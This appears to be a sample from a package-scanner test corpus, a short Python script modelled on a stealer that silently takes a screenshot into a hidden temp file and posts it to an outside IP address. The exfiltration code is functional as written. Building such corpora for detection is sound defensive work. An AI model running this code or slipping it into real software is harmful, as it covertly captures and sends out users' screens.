# pkgguard corpus 179 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import tempfile
import requests

path = os.path.join(tempfile.gettempdir(), ".s.png")
subprocess.run(["screencapture", "-x", path])
with open(path, "rb") as f:
    requests.post("http://100.64.179.3/up", files={"f": f})
